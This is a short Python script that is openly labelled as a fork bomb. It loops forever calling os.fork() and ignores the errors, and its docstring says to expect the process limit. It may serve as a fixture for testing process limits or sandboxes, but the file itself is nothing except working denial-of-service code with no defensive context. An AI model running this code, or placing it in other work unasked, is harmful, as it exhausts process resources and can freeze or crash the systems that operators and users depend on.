"""Fork bomb: every process forks forever. Expect the process limit."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
